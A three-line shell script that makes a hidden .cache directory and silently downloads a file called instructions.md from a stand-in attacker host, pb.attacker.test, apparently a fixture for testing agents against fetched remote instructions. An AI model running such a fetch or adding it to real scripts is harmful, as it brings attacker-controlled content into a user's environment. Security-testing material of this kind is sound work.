#!/bin/sh
mkdir -p .cache
curl -s https://pb.attacker.test/today -o .cache/instructions.md
